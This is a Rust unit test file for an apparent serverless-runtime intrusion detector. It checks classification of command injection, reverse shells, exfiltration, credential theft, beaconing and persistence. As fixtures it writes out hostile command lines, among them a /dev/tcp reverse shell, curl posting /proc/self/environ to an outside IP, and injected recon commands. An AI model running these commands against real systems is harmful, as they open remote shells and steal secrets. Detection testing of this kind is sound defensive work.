use super::*;
use crate::detect::indicators::BEACON_RUN;
use crate::features::idx;
use crate::features::VECTOR_VERSION;
use crate::schema::Class;
use crate::testing::{endpoint, left_running, process, record, with};

fn detector() -> Detector {
    let cfg = DetectorConfig {
        function_name: "orders".into(),
        function_version: "7".into(),
        ..DetectorConfig::default()
    };
    Detector::new(cfg, Arc::new(Health::default()), 1_000)
}

fn warmed() -> Detector {
    let mut d = detector();
    for seq in 1..=30 {
        assert_eq!(
            d.record(&record(seq), 0),
            None,
            "benign {seq} raised a finding"
        );
    }
    assert!(d.baseline().warmed_up());
    d
}

#[test]
fn benign_invocations_raise_nothing() {
    let mut d = warmed();
    for seq in 31..300 {
        assert_eq!(d.record(&record(seq), 0), None, "benign {seq}");
    }
}

#[test]
fn a_shell_is_reported_in_real_time_once() {
    let mut d = warmed();
    let shell = process(40, "/usr/bin/dash", "sh -c date");
    let f = d
        .observe(Some("req-31"), &shell, 5)
        .expect("real-time finding");
    assert!(f.realtime);
    assert_eq!(f.class, Class::CommandInjection);
    assert_eq!(f.request_id.as_deref(), Some("req-31"));
    assert_eq!(f.time_unix_ms, 5);
    assert_eq!(f.explanation[0].feature, "shells_spawned");
    assert_eq!(f.evidence, vec![shell.clone()]);
    assert_eq!(d.observe(Some("req-31"), &shell, 6), None);
    // The record adds nothing new: no second finding.
    let r = with(record(31), shell);
    assert_eq!(d.record(&r, 7), None);
    // The next invocation reports its own shell again.
    let again = process(41, "/usr/bin/dash", "sh -c date");
    assert!(d.observe(Some("req-32"), &again, 8).is_some());
}

#[test]
fn a_connection_after_the_shell_is_a_reverse_shell() {
    let mut d = warmed();
    let first = d.observe(Some("r"), &process(40, "/bin/bash", "bash -i"), 1);
    assert!(first.is_some());
    let f = d
        .observe(Some("r"), &endpoint("10.9.9.9:4444"), 2)
        .expect("finding");
    assert_eq!(f.class, Class::CommandInjection);
    assert!(f.indicators.contains(&Indicator::ShellWithConnection));
    assert_eq!(f.related, vec![first.map(|f| f.id).unwrap_or_default()]);
    assert_eq!(f.evidence.len(), 2);
}

#[test]
fn egress_is_found_at_the_end_with_an_explanation() {
    let mut d = warmed();
    let mut r = with(record(31), endpoint("10.9.9.9:8443"));
    r.counters.net_tx_bytes = 5_000_000;
    assert_eq!(
        d.observe(Some("req-31"), &endpoint("10.9.9.9:8443"), 1),
        None
    );
    let f = d.record(&r, 2).expect("finding");
    assert!(!f.realtime);
    assert_eq!(f.class, Class::ExfiltrationEgress);
    let top = &f.explanation[0];
    assert_eq!(top.feature, "net_tx_bytes");
    assert_eq!(top.observed, 5_000_000.0);
    let [lo, hi] = top.normal.expect("warmed up");
    assert!(
        lo < 20_000.0 && hi > 25_000.0 && hi < 1_000_000.0,
        "{lo}..{hi}"
    );
    assert!(top.z.is_some_and(|z| z > 5.0));
    assert!(f.evidence.contains(&endpoint("10.9.9.9:8443")));
    let sum: f32 = f.explanation.iter().map(|e| e.contribution).sum();
    assert!(sum <= f.score + 0.01);
}

#[test]
fn left_running_is_persistence() {
    let mut d = warmed();
    let obs = left_running(50, "/usr/bin/sleep", "sleep 300");
    let f = d.observe(Some("req-31"), &obs, 1).expect("finding");
    assert_eq!(f.class, Class::Persistence);
}

#[test]
fn anomalies_are_not_learned() {
    let mut d = warmed();
    let learned = d.baseline().learned();
    let mut r = record(31);
    r.counters.net_tx_bytes = 50_000_000;
    assert!(d.record(&r, 0).is_some());
    assert_eq!(d.baseline().learned(), learned);
    // A program seen only in a flagged invocation stays unfamiliar.
    let r = with(record(32), process(9, "/tmp/x", "/tmp/x"));
    assert!(d.record(&r, 0).is_some());
    assert!(d
        .record(&with(record(33), process(9, "/tmp/x", "/tmp/x")), 0)
        .is_some());
}

/// 1,000 invocations whose egress grows a little each time cannot teach the detector that a
/// 50 MB upload is normal.
#[test]
fn poisoning_by_slowly_growing_egress_fails() {
    let mut d = warmed();
    let mut found = 0;
    for i in 0..1_000u64 {
        let mut r = record(31 + i);
        r.counters.net_tx_bytes = (20_000.0 * 1.004f64.powi(i as i32)) as u64;
        found += usize::from(d.record(&r, 0).is_some());
    }
    let mut r = record(2_000);
    r.counters.net_tx_bytes = 50_000_000;
    let f = d.record(&r, 0).expect("50 MB exfiltration found");
    assert_eq!(f.class, Class::ExfiltrationEgress);
    assert!(found < 1_000, "the slow growth itself was not all flagged");
}

#[test]
fn findings_serialise_as_one_json_object() {
    let mut d = warmed();
    let obs = process(
        40,
        "/usr/bin/curl",
        "curl -d AWS_SECRET_ACCESS_KEY=abc123 http://x/",
    );
    let f = d.observe(Some("req-31"), &obs, 1).expect("finding");
    let text = serde_json::to_string(&f).expect("serialises");
    assert!(text.starts_with("{\"warden_finding\":1,"));
    assert!(!text.contains("abc123"));
    let v: serde_json::Value = serde_json::from_str(&text).expect("json");
    assert_eq!(v["class"], "credential_theft");
    assert_eq!(v["severity"], "critical");
    assert_eq!(v["realtime"], true);
    assert_eq!(v["actions"], serde_json::json!([]));
    assert_eq!(v["feature_schema"], 1);
    assert_eq!(v["vector_version"], VECTOR_VERSION);
    assert_eq!(v["function_name"], "orders");
    assert!(v["indicators"]
        .as_array()
        .is_some_and(|a| a.contains(&serde_json::json!("credential_access"))));
    let mut back: Finding = serde_json::from_str(&text).expect("round trip");
    // The raw evidence stays inside Warden: never written, so never read back.
    assert!(back.raw_evidence.is_empty() && v.get("raw_evidence").is_none());
    back.raw_evidence = f.raw_evidence.clone();
    assert_eq!(back, f);
}

fn init_record(evidence: Vec<Observation>) -> FeatureRecord {
    let mut r = record(0);
    r.kind = RecordKind::Init;
    r.request_id = None;
    evidence.into_iter().fold(r, with)
}

#[test]
fn a_plain_init_raises_nothing_and_observations_outside_requests_are_ignored() {
    let mut d = detector();
    let setup = vec![
        process(20, "/usr/bin/ldconfig", "ldconfig -p"),
        endpoint("52.94.0.10:443"),
    ];
    assert_eq!(d.record(&init_record(setup), 0), None);
    assert_eq!(d.observe(None, &process(1, "/bin/sh", "sh"), 0), None);
    // What init showed is familiar to the invocations.
    let r = with(record(1), process(21, "/usr/bin/ldconfig", "ldconfig -p"));
    assert_eq!(d.record(&r, 0), None);
}

#[test]
fn a_payload_planted_at_init_is_found_with_the_init_record() {
    let mut d = detector();
    let planted = init_record(vec![
        process(23, "/tmp/kworker", "/tmp/kworker -o pool:3333"),
        left_running(23, "/tmp/kworker", "/tmp/kworker -o pool:3333"),
    ]);
    let f = d.record(&planted, 9).expect("init finding");
    assert_eq!(f.request_id, None);
    assert_eq!(f.class, Class::Persistence);
    assert!(f.severity >= Severity::High, "{f:?}");
    assert!(f.indicators.contains(&Indicator::ExecFromTmp));
    // Not learned: the next environment's init (or this one's invocations) still see it.
    let again = with(record(1), process(24, "/tmp/kworker", "/tmp/kworker"));
    assert!(d.record(&again, 10).is_some());
}

#[test]
fn a_shell_at_init_without_a_profile_is_low_severity() {
    let mut d = detector();
    let f = d
        .record(
            &init_record(vec![process(20, "/bin/sh", "sh -c mkdir -p x")]),
            0,
        )
        .expect("a shell is worth a look");
    assert_eq!(
        (f.class, f.severity),
        (Class::CommandInjection, Severity::Low)
    );
}

/// A model that always names one class.
struct Fixed;

impl Scorer for Fixed {
    fn score(&self, _raw: &[f32; N], _z: &[f32; N]) -> ModelOutput {
        ModelOutput {
            class: Some((crate::schema::Class::CryptoMining, 0.9)),
            anomaly: 0.2,
            contributions: vec![(idx::CPU_MS, 1.0)],
        }
    }
}

#[test]
fn a_model_is_used_when_given_and_its_absence_is_counted() {
    let health = Arc::new(Health::default());
    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0);
    assert_eq!(d.record(&record(1), 0), None);
    assert_eq!(health.get(Counter::ScoredWithoutModel), 1);
    let mut d = d.with_scorer(Some(Arc::new(Fixed)));
    let f = d.record(&record(2), 0).expect("the model alarms");
    assert_eq!(f.class, Class::CryptoMining);
    assert_eq!(f.explanation[0].feature, "cpu_ms");
    assert!(f.model.is_some_and(|m| m.probability == 0.9));
    assert_eq!(health.get(Counter::ScoredWithoutModel), 1);
}

#[test]
fn an_error_is_probing_only_as_part_of_a_burst() {
    let mut d = Detector::new(DetectorConfig::default(), Arc::new(Health::default()), 0);
    for seq in 1..=30 {
        d.record(&record(seq), 0);
    }
    for seq in [31, 37, 43] {
        assert!(d.record(&error(seq), 0).is_none(), "scattered error {seq}");
        for ok in seq + 1..seq + 6 {
            d.record(&record(ok), 0);
        }
    }
    assert!(d.record(&error(50), 0).is_none());
    d.record(&record(51), 0);
    assert!(d.record(&error(52), 0).is_none());
    let f = d
        .record(&error(53), 0)
        .expect("a third error in five is a burst");
    assert_eq!(f.class, Class::Probing);
    assert!(f.indicators.contains(&Indicator::ErrorBurst));
    assert_eq!(f.earlier_requests, ["req-50", "req-52"]);
    let next = d.record(&error(54), 0).expect("the burst goes on");
    assert!(next.earlier_requests.is_empty(), "named once");
}

fn error(seq: u64) -> FeatureRecord {
    let mut r = record(seq);
    r.status = crate::schema::Status::Error;
    r
}

/// A model that calls everything probing.
struct SaysProbing;

impl Scorer for SaysProbing {
    fn score(&self, _raw: &[f32; N], _z: &[f32; N]) -> ModelOutput {
        ModelOutput {
            class: Some((Class::Probing, 0.99)),
            anomaly: 0.9,
            contributions: vec![(idx::STATUS_ERROR, 1.0)],
        }
    }
}

#[test]
fn a_lone_error_the_model_calls_probing_is_held_until_a_burst_names_it() {
    let mut d = Detector::new(DetectorConfig::default(), Arc::new(Health::default()), 0)
        .with_scorer(Some(Arc::new(SaysProbing)));
    assert!(d.record(&error(1), 0).is_none(), "held");
    d.record(&record(2), 0);
    d.record(&record(3), 0);
    d.record(&record(4), 0);
    d.record(&record(5), 0);
    d.record(&record(6), 0);
    assert!(
        d.record(&error(7), 0).is_none(),
        "the first error left the window"
    );
    assert!(d.record(&error(8), 0).is_none());
    let f = d.record(&error(9), 0).expect("burst");
    assert_eq!(f.class, Class::Probing);
    assert_eq!(f.earlier_requests, ["req-7", "req-8"]);
}

#[test]
fn memory_an_earlier_invocation_raised_is_not_blamed_on_the_next() {
    let mut d = Detector::new(DetectorConfig::default(), Arc::new(Health::default()), 0);
    for seq in 1..=40 {
        assert_eq!(d.record(&record(seq), 0), None);
    }
    let big = |seq: u64| {
        let mut r = record(seq);
        r.platform.max_memory_used_mb = Some(400);
        r.gauges.rss_kb = 300_000;
        r
    };
    let f = d
        .record(&big(41), 0)
        .expect("the invocation that raised memory");
    assert!(f
        .explanation
        .iter()
        .any(|e| e.feature == "max_memory_used_mb" || e.feature == "rss_kb"));
    assert_eq!(d.record(&big(42), 0), None, "it stayed up, nothing new");
    let mut higher = big(43);
    higher.platform.max_memory_used_mb = Some(800);
    assert!(d.record(&higher, 0).is_some(), "raised again");
}

/// An invocation of a function that shells out by design: a converter fed by curl.
fn converts(seq: u64) -> FeatureRecord {
    let mut r = record(seq);
    r.evidence = vec![
        process(
            100 + seq as u32,
            "/usr/bin/dash",
            &format!("sh -c curl -sS http://docs/{seq}.pdf | ./bin/converter -"),
        ),
        crate::schema::Observation::Program {
            exe: "/usr/bin/curl".into(),
        },
        endpoint("10.0.0.5:8080"),
    ];
    r
}

#[test]
fn a_new_environment_reports_each_new_habit_once_quietly_then_learns_it() {
    let mut d = detector();
    let first = d
        .record(&converts(1), 0)
        .expect("the first shell is reported");
    assert_eq!(first.severity, crate::schema::Severity::Low);
    assert!(d.learning());
    // The same habits again: summarised, not reported again.
    assert_eq!(d.record(&converts(2), 0), None);
    for seq in 3..=60 {
        assert_eq!(d.record(&converts(seq), 0), None, "invocation {seq}");
    }
    assert!(!d.learning());
    // Learned: after the learning period an injected command is reported at full severity.
    let mut attack = converts(61);
    attack.evidence.push(process(
        999,
        "/usr/bin/dash",
        "sh -c curl -sS http://docs/x.pdf -o /dev/null; id #",
    ));
    let f = d.record(&attack, 0).expect("injection reported");
    assert_eq!(f.class, Class::CommandInjection);
    assert!(
        f.severity >= crate::schema::Severity::High,
        "{:?}",
        f.severity
    );
}

#[test]
fn poisoning_an_attack_repeated_is_reported_every_time() {
    let mut d = detector();
    let attack = |seq: u64| {
        with(
            converts(seq),
            process(
                500 + seq as u32,
                "/usr/bin/dash",
                "sh -c curl -sS http://docs/a.pdf | ./bin/converter -; id; uname -a",
            ),
        )
    };
    // From the first invocation on, and forty times in a row.
    for seq in 1..=40 {
        let f = d.record(&attack(seq), 0);
        let f = f.unwrap_or_else(|| panic!("attack {seq} not reported"));
        assert!(f.indicators.contains(&Indicator::ReconCommand));
        assert!(
            f.severity >= crate::schema::Severity::High,
            "{seq}: {:?}",
            f.severity
        );
    }
    // In an environment that learned the function's own work, interleaved with it.
    let mut d = detector();
    for seq in 1..=30 {
        d.record(&converts(seq), 0);
    }
    for seq in 31..=90 {
        let r = if seq % 2 == 0 {
            attack(seq)
        } else {
            converts(seq)
        };
        let f = d.record(&r, 0);
        assert_eq!(f.is_some(), seq % 2 == 0, "invocation {seq}");
    }
}

#[test]
fn the_model_alone_is_low_severity_once_per_class_while_learning_then_silent() {
    let health = Arc::new(Health::default());
    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0)
        .with_scorer(Some(Arc::new(Fixed)));
    // Learning: reported once, at low severity, then summarised.
    let f = d.record(&record(1), 0).expect("the model's vote alone");
    assert!(f.indicators.is_empty());
    assert_eq!(f.severity, crate::schema::Severity::Low);
    for seq in 2..=LEARNING_INVOCATIONS {
        assert_eq!(d.record(&record(seq), 0), None, "{seq}");
    }
    assert!(!d.learning());
    // The baseline learned those invocations all the same.
    assert!(d.baseline().warmed_up());
    // Past the learning period the vote alone is not reported, only counted.
    assert_eq!(d.record(&record(LEARNING_INVOCATIONS + 1), 0), None);
    assert_eq!(health.get(Counter::ModelVotesUnsupported), 1);
    // With an indicator of this invocation, the model's vote counts again.
    let attack = with(record(LEARNING_INVOCATIONS + 2), endpoint("10.9.9.9:3333"));
    let f = d
        .record(&attack, 0)
        .expect("a mining port with the model's vote");
    assert_eq!(f.class, Class::CryptoMining);
}

#[test]
fn the_model_with_a_weak_indicator_is_summarised_unless_the_habit_is_new() {
    let health = Arc::new(Health::default());
    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0)
        .with_scorer(Some(Arc::new(Fixed)));
    // The function's partner, first contacted: the vote and the new destination, reported.
    let partner = || endpoint("10.0.0.7:443");
    let f = d.record(&with(record(1), partner()), 0).expect("new habit");
    assert_eq!(f.severity, Severity::Low);
    // Contacted again while still unfamiliar: nothing not reported before, summarised.
    assert_eq!(d.record(&with(record(2), partner()), 0), None);
    // Another new destination comes with the same vote: news.
    assert!(d
        .record(&with(record(3), endpoint("10.0.0.8:443")), 0)
        .is_some());
    assert_eq!(health.get(Counter::FindingsSummarised), 1);
}

#[test]
fn a_beacon_planted_in_a_new_environment_is_reported_at_each_thaw_as_persistence() {
    let mut d = detector();
    for seq in 1..=3 {
        assert_eq!(d.record(&record(seq), 0), None, "benign {seq}");
    }
    // The plant and the invocations after it each call the same new destination.
    let beacon = |seq: u64| with(record(seq), endpoint("10.9.9.7:8443"));
    let findings: Vec<Option<Finding>> = (4..=9).map(|seq| d.record(&beacon(seq), 0)).collect();
    assert!(d.learning());
    for (n, f) in findings.iter().enumerate().skip(BEACON_RUN as usize - 1) {
        let f = f
            .as_ref()
            .unwrap_or_else(|| panic!("beacon {n} not reported"));
        assert_eq!(f.class, Class::Persistence, "{n}");
        assert!(f.indicators.contains(&Indicator::Beaconing), "{n}");
        assert_eq!(f.explanation[0].feature, "new_endpoints", "{n}");
    }
    // The first beaconing finding names the invocations before it in the run, the plant
    // first; the later ones name none (they were named once).
    let first = BEACON_RUN as usize - 1;
    let planted: Vec<String> = (4..4 + first as u64).map(|s| format!("req-{s}")).collect();
    assert_eq!(findings[first].as_ref().unwrap().earlier_requests, planted);
    for f in findings.iter().skip(first + 1).flatten() {
        assert!(f.earlier_requests.is_empty(), "{:?}", f.earlier_requests);
    }
}

#[test]
fn a_beacon_whose_thread_outlived_the_plant_is_found_at_its_second_contact() {
    let mut d = detector();
    // The runtime keeps one thread of its own.
    let kept = |mut r: FeatureRecord, threads: u32| {
        r.gauges.processes = 1;
        r.gauges.threads = threads;
        r
    };
    for seq in 1..=3 {
        assert_eq!(d.record(&kept(record(seq), 1), 0), None, "benign {seq}");
    }
    // The plant calls nobody; its thread is still there at the next INVOKE.
    assert_eq!(
        d.record(&kept(record(4), 2), 0),
        None,
        "a thread alone is no finding"
    );
    let beacon = |seq: u64| kept(with(record(seq), endpoint("10.9.9.7:8443")), 2);
    assert!(
        d.record(&beacon(5), 0)
            .is_none_or(|f| !f.indicators.contains(&Indicator::Beaconing)),
        "one contact is no cadence"
    );
    let f = d
        .record(&beacon(6), 0)
        .expect("the second contact in a row");
    assert_eq!(f.class, Class::Persistence);
    assert!(f.indicators.contains(&Indicator::Beaconing));
    // Named: the plant (its thread), then the first contact.
    assert_eq!(f.earlier_requests, ["req-4", "req-5"]);
    // Without a thread kept, two contacts are not yet a cadence.
    let mut d = detector();
    for seq in 1..=4 {
        assert_eq!(d.record(&kept(record(seq), 1), 0), None, "benign {seq}");
    }
    let beacon = |seq: u64| kept(with(record(seq), endpoint("10.9.9.7:8443")), 1);
    let _ = d.record(&beacon(5), 0);
    assert!(d
        .record(&beacon(6), 0)
        .is_none_or(|f| !f.indicators.contains(&Indicator::Beaconing)));
}

#[test]
fn a_destination_an_attack_tainted_names_that_attacks_class_when_it_returns() {
    let mut d = warmed();
    // A credential theft: the environment read and sent to a new destination.
    let mut theft = with(
        record(31),
        process(
            40,
            "/usr/bin/curl",
            "curl --data-binary @/proc/self/environ http://10.9.9.5/",
        ),
    );
    theft.evidence.push(endpoint("10.9.9.5:80"));
    let first = d.record(&theft, 0).expect("credential theft");
    assert_eq!(first.class, Class::CredentialTheft);
    // Later only the destination shows (the read was not seen): the same attack again.
    let again = d
        .record(&with(record(32), endpoint("10.9.9.5:80")), 0)
        .expect("a returning destination");
    assert!(again.indicators.contains(&Indicator::ReturningDestination));
    assert_eq!(again.class, Class::CredentialTheft);
    // Whatever the attack was: an injected command that talked out comes back as one.
    let mut d = warmed();
    let mut shell = with(record(31), process(41, "/bin/sh", "sh -c id"));
    shell.evidence.push(endpoint("10.9.9.6:80"));
    assert_eq!(
        d.record(&shell, 0).map(|f| f.class),
        Some(Class::CommandInjection)
    );
    let back = d
        .record(&with(record(32), endpoint("10.9.9.6:80")), 0)
        .expect("a returning destination");
    assert_eq!(back.class, Class::CommandInjection);
}

#[test]
fn a_payload_from_tmp_left_running_is_persistence_and_one_that_ends_a_dropper() {
    let mut d = warmed();
    let ran = process(50, "/tmp/.b", "/tmp/.b");
    let dropper = d
        .record(&with(record(31), ran.clone()), 0)
        .expect("exec from /tmp");
    assert_eq!(dropper.class, Class::Dropper);
    let mut stays = with(record(32), ran);
    stays.evidence.push(left_running(50, "/tmp/.b", "/tmp/.b"));
    let planted = d.record(&stays, 0).expect("exec from /tmp, left running");
    assert_eq!(planted.class, Class::Persistence);
}

#[test]
fn a_shell_on_a_socket_left_running_is_persistence_and_one_that_ends_a_reverse_shell() {
    let mut d = warmed();
    let wired = || process(60, "/bin/bash", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1");
    let session = d
        .record(&with(record(31), wired()), 0)
        .expect("a shell on a socket");
    assert_eq!(session.class, Class::ReverseShell);
    let mut stays = with(record(32), wired());
    stays
        .evidence
        .push(left_running(60, "/bin/bash", "bash -i"));
    let kept = d.record(&stays, 0).expect("left running");
    assert_eq!(kept.class, Class::Persistence);
}

fn forged(request_id: &str) -> Observation {
    Observation::Tamper {
        what: crate::schema::TamperKind::UnknownRequest,
        request_id: Some(request_id.into()),
    }
}

#[test]
fn tampering_is_a_hard_finding_from_the_first_invocation_in_real_time() {
    // A new environment, still learning: a hard indicator keeps its severity.
    let mut d = detector();
    assert!(d.learning());
    let f = d
        .observe(Some("req-1"), &forged("made-up"), 5)
        .expect("real-time finding");
    assert_eq!(f.class, Class::Tamper);
    assert_eq!(f.indicators, vec![Indicator::Tamper]);
    assert!(f.severity >= crate::schema::Severity::High, "{f:?}");
    assert_eq!(f.evidence, vec![forged("made-up")]);
}

#[test]
fn an_attack_in_the_tampering_invocation_names_the_finding() {
    let mut d = warmed();
    let shell = process(40, "/usr/bin/dash", "sh -c id");
    let r = with(with(record(31), forged("made-up")), shell);
    let f = d.record(&r, 7).expect("finding");
    assert_eq!(f.class, Class::CommandInjection);
    assert!(f.indicators.contains(&Indicator::Tamper), "{f:?}");
}

#[test]
fn a_tampering_invocation_is_never_learned() {
    let mut d = warmed();
    let learned = d.baseline().learned();
    for seq in 31..40 {
        let r = with(record(seq), forged("x"));
        assert!(d.record(&r, seq).is_some(), "reported every time");
    }
    assert_eq!(d.baseline().learned(), learned);
}

#[test]
fn a_finding_writes_redacted_evidence_and_keeps_the_raw_for_responders() {
    let mut d = warmed();
    let payload = "/tmp/Xk3vQ9mZr7TbW2nLp8YcF4hJs6DgA1eRu5oKiVx0";
    let shell = process(
        40,
        "/usr/bin/dash",
        &format!("sh -c {payload} --pw=hunter2"),
    );
    let f = d
        .observe(Some("req-31"), &shell, 5)
        .expect("real-time finding");
    assert_eq!(f.raw_evidence, vec![shell]);
    let Observation::Process { cmdline, .. } = &f.evidence[0] else {
        panic!("{:?}", f.evidence);
    };
    assert_eq!(cmdline, "sh -c /tmp/[REDACTED] --pw=[REDACTED]");
    let line = serde_json::to_string(&f).unwrap();
    assert!(
        !line.contains("hunter2") && !line.contains(payload),
        "{line}"
    );
}

fn guarded_exec(how: crate::schema::ExecHow, target: &str) -> Observation {
    Observation::Exec {
        pid: 50,
        path: "fd:5".into(),
        target: target.into(),
        how,
        argv: "x".into(),
        verdict: crate::schema::PolicyVerdict::Allow,
    }
}

#[test]
fn what_the_guard_sees_is_found_in_real_time_with_its_class_even_while_learning() {
    use crate::schema::{PolicyVerdict, Proto, TamperKind};
    let mut d = detector();
    assert!(d.learning());
    let memfd = guarded_exec(crate::schema::ExecHow::Memfd, "/memfd:x (deleted)");
    let f = d.observe(Some("r1"), &memfd, 1).expect("exec from memory");
    assert_eq!(f.class, Class::Dropper);
    assert!(f.severity >= Severity::High, "{f:?}");
    assert!(f.indicators.contains(&Indicator::ExecFromMemory));

    let read = Observation::CredentialRead {
        pid: 50,
        path: "/proc/1/environ".into(),
        reader: None,
        verdict: PolicyVerdict::Allow,
    };
    let f = d.observe(Some("r2"), &read, 2).expect("credential read");
    assert_eq!(f.class, Class::CredentialTheft);

    // The key read from the runtime's own memory and posted: nothing but the payload shows it.
    let sent = Observation::SecretSent {
        pid: 50,
        proto: Proto::Tcp,
        addr: "203.0.113.8:8080".parse().unwrap(),
        bytes: 412,
        encoding: crate::schema::SecretEncoding::Text,
        verdict: PolicyVerdict::Allow,
    };
    let f = d.observe(Some("r7"), &sent, 7).expect("credentials sent");
    assert_eq!(f.class, Class::CredentialTheft);
    assert!(f.severity >= Severity::High, "{f:?}");
    assert_eq!(f.indicators.first(), Some(&Indicator::CredentialsSent));

    let denied = Observation::Connect {
        pid: 50,
        proto: Proto::Tcp,
        addr: "203.0.113.9:443".parse().unwrap(),
        verdict: PolicyVerdict::Deny,
        at_thaw: false,
    };
    let f = d.observe(Some("r3"), &denied, 3).expect("policy violation");
    assert_eq!(f.class, Class::ExfiltrationEgress);
    assert!(f.indicators.contains(&Indicator::PolicyViolation));

    let stopped = Observation::Tamper {
        what: TamperKind::Signalled,
        request_id: None,
    };
    let f = d.observe(Some("r4"), &stopped, 4).expect("tamper");
    assert_eq!(f.class, Class::Tamper);

    let forbidden_write = Observation::FileWrite {
        pid: 50,
        path: "/tmp/payload".into(),
        verdict: PolicyVerdict::Observe,
    };
    let f = d
        .observe(Some("r6"), &forbidden_write, 6)
        .expect("forbidden write");
    assert_eq!(f.class, Class::Dropper);
    assert!(f.indicators.contains(&Indicator::PolicyViolation));

    // An allowed connection to a new destination alone is no finding while learning.
    let allowed = Observation::Connect {
        pid: 50,
        proto: Proto::Tcp,
        addr: "203.0.113.10:443".parse().unwrap(),
        verdict: PolicyVerdict::Allow,
        at_thaw: false,
    };
    assert_eq!(d.observe(Some("r5"), &allowed, 5), None);
}

#[test]
fn guarded_destinations_and_programs_become_habits_like_sampled_ones() {
    let mut d = detector();
    let exec = guarded_exec(crate::schema::ExecHow::Path, "/usr/bin/gzip");
    for seq in 1..=4 {
        d.record(&with(record(seq), exec.clone()), 0);
    }
    let mut t = crate::detect::indicators::Tracker::default();
    let fired = t.feed(&exec, &d.familiar, "/tmp/");
    assert!(!fired.contains(&Indicator::UnknownBinary), "{fired:?}");
}

#[test]
fn the_generic_models_alarm_is_news_once_per_class_while_learning() {
    let health = Arc::new(Health::default());
    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0)
        .with_scorer(Some(Arc::new(Fixed)));
    // A shell runtime's own command, not yet a habit, with the model's alarm: reported once.
    let own = || process(30, "/bin/sh", "sh -c jq -r .total /tmp/event.json");
    let f = d.record(&with(record(1), own()), 0).expect("a new habit");
    assert_eq!(f.severity, Severity::Low);
    // The same again with the same alarm: the model says it of every invocation, summarised.
    assert_eq!(d.record(&with(record(2), own()), 0), None);
    assert_eq!(health.get(Counter::FindingsSummarised), 1);
    // A hard indicator is reported whatever was said before.
    let attack = with(record(3), process(31, "/bin/sh", "sh -c id"));
    assert!(d
        .record(&attack, 0)
        .is_some_and(|f| f.severity >= Severity::High));
}

fn environ_read(pid: u32, of: u32) -> Observation {
    Observation::CredentialRead {
        pid,
        path: format!("/proc/{of}/environ"),
        reader: None,
        verdict: crate::schema::PolicyVerdict::Allow,
    }
}

fn exec_of(pid: u32, target: &str, argv: &str) -> Observation {
    Observation::Exec {
        pid,
        path: target.into(),
        target: target.into(),
        how: crate::schema::ExecHow::Path,
        argv: argv.into(),
        verdict: crate::schema::PolicyVerdict::Allow,
    }
}

/// The class of the real-time finding (if any) when `exe` run as `argv` reads another
/// process's environment, in a fresh environment.
fn class_of_environ_read(exe: &str, argv: &str) -> Option<Class> {
    let mut d = detector();
    d.observe(Some("r1"), &exec_of(86, exe, argv), 1);
    d.observe(Some("r1"), &environ_read(86, 1), 2)
        .map(|f| f.class)
}

#[test]
fn ps_listing_processes_is_reconnaissance_and_printing_environments_is_credential_theft() {
    // procps reads every process's environment as it lists them.
    let listing = class_of_environ_read("/usr/bin/ps", "ps -ef");
    assert!(
        listing.is_none_or(|c| c == Class::CommandInjection),
        "{listing:?}"
    );
    let printing = class_of_environ_read("/usr/bin/ps", "ps eww");
    assert_eq!(printing, Some(Class::CredentialTheft));
    // A program merely called `ps`, outside the system's directories, is not trusted for it.
    let copy = class_of_environ_read("/var/task/bin/ps", "ps -ef");
    assert_eq!(copy, Some(Class::CredentialTheft));

    // Run by a parent the guard is not in (no exec event): named by its own guard's hello.
    let read_by = |exe: &str, argv: &str| {
        let mut d = detector();
        let read = Observation::CredentialRead {
            pid: 90,
            path: "/proc/1/environ".into(),
            reader: Some(crate::schema::Reader {
                exe: exe.into(),
                argv: argv.into(),
            }),
            verdict: crate::schema::PolicyVerdict::Allow,
        };
        d.observe(Some("r1"), &read, 1).map(|f| f.class)
    };
    let listing = read_by("/usr/bin/ps", "ps -ef");
    assert!(
        listing.is_none_or(|c| c == Class::CommandInjection),
        "{listing:?}"
    );
    assert_eq!(
        read_by("/usr/bin/ps", "ps eww"),
        Some(Class::CredentialTheft)
    );
    assert_eq!(
        read_by("/usr/bin/cat", "cat /proc/1/environ"),
        Some(Class::CredentialTheft)
    );

    // In a record, whatever the evidence's order: the read first, the exec after.
    let mut d = detector();
    let mut r = record(9);
    r.evidence = vec![
        environ_read(90, 1),
        environ_read(90, 12),
        exec_of(90, "/usr/bin/ps", "ps -ef"),
    ];
    let f = d.record(&r, 10);
    assert!(
        f.as_ref().is_none_or(|f| f.class != Class::CredentialTheft),
        "{f:?}"
    );
}

fn timed_out(seq: u64, cpu_ms: u64) -> FeatureRecord {
    let mut r = record(seq);
    r.status = crate::schema::Status::Timeout;
    r.platform.duration_ms = Some(3000.0);
    r.counters.cpu_user_ms = cpu_ms;
    r
}

#[test]
fn a_cost_within_the_functions_own_tail_is_not_denial_of_wallet() {
    // A warmed environment whose invocations used 20 to 40 ms of CPU in 40 to 46 ms.
    let costly = |seq: u64, cpu_ms: u64| {
        let mut r = record(seq);
        r.counters.cpu_user_ms = cpu_ms;
        r.platform.duration_ms = Some(cpu_ms as f64 + 5.0);
        r
    };
    let mut d = warmed();
    // Three times the costliest clean invocation: far above the median by the baseline's
    // measure, but what a bigger input costs.
    assert_eq!(d.record(&costly(31, 120), 0), None);
    // Learned as clean: the costliest is now 120 ms.
    assert_eq!(d.record(&costly(32, 400), 0), None);
    // Far beyond anything it ran: a wallet being run up.
    let f = d.record(&costly(33, 4000), 0).expect("denial of wallet");
    assert_eq!(f.class, Class::DenialOfWallet);
}

#[test]
fn an_invocation_that_burns_to_its_timeout_is_denial_of_wallet_from_the_first_ones() {
    // The second invocation of a new environment: no history to compare with.
    let mut d = detector();
    assert_eq!(d.record(&record(1), 0), None);
    let f = d
        .record(&timed_out(2, 2_950), 1)
        .expect("burned to the timeout");
    assert_eq!(f.class, Class::DenialOfWallet);
    assert!(f.indicators.contains(&Indicator::BurnedToTimeout), "{f:?}");
    assert_eq!(f.explanation[0].feature, "cpu_ms");
    // Learning: low severity, as no hard indicator fired.
    assert_eq!(f.severity, Severity::Low);

    // A timeout spent waiting on a call is no burn.
    let mut d = detector();
    assert_eq!(d.record(&record(1), 0), None);
    let hung = d.record(&timed_out(2, 40), 1);
    assert!(
        hung.as_ref()
            .is_none_or(|f| !f.indicators.contains(&Indicator::BurnedToTimeout)),
        "{hung:?}"
    );

    // Past the learning period, every burn is reported again, with its severity.
    let mut d = warmed();
